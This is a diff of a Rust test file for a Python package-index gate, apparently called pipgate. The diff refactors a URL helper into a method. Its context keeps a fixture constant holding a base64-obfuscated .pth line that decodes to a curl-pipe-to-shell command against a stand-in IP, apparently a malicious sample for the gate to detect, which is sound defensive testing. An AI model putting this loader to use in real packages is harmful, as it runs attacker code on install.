@@ -9,19 +9,6 @@ use reqwest::header;
 
 const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";
 
-/// The file URL pipgate lists for `filename` on `project`'s page.
-fn file_url(gate: &Pipgate, project: &str, filename: &str) -> String {
-    let page: serde_json::Value = http()
-        .get(format!("{}{project}/", gate.url))
-        .header(header::ACCEPT, "application/vnd.pypi.simple.v1+json")
-        .send()
-        .unwrap()
-        .json()
-        .unwrap();
-    let f = page["files"].as_array().unwrap().iter().find(|f| f["filename"] == filename).unwrap();
-    format!("{}/simple/{project}/{}", gate.base(), f["url"].as_str().unwrap())
-}
-
 /// `pipgate_cache_requests_total{cache="memory",result=…}`.
 fn memory_lookups(gate: &Pipgate, result: &str) -> f64 {
     let text = http().get(format!("{}/metrics", gate.base())).send().unwrap().text().unwrap();
@@ -44,7 +31,7 @@ fn artifacts_from_memory_are_the_verified_bytes_with_the_same_ranges_as_from_dis
     ];
     for (case, flags, from_memory) in cases {
         let gate = Pipgate::start_args(&idx.url(), None, flags);
-        let url = file_url(&gate, "demo-small", &small_name);
+        let url = gate.file_url("demo-small", &small_name);
         let len = small_bytes.len();
         assert!(len > 1000, "the wheel is {len} bytes");
         let sha = sha256_hex(&small_bytes);
@@ -111,7 +98,7 @@ fn a_policy_change_that_blocks_a_file_in_memory_is_obeyed_at_once() {
     // The allow list: findings are not weighed, so the file is served (and kept in memory).
     std::fs::write(&policy, format!("{base}allow: [\"demo-hot\"]\n")).unwrap();
     let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));
-    let url = file_url(&gate, "demo-hot", &name);
+    let url = gate.file_url("demo-hot", &name);
     for round in ["first request", "repeat request, from memory"] {
         let r = http().get(&url).send().unwrap();
         assert_eq!(r.status(), 200, "{round}: {}", gate.log());
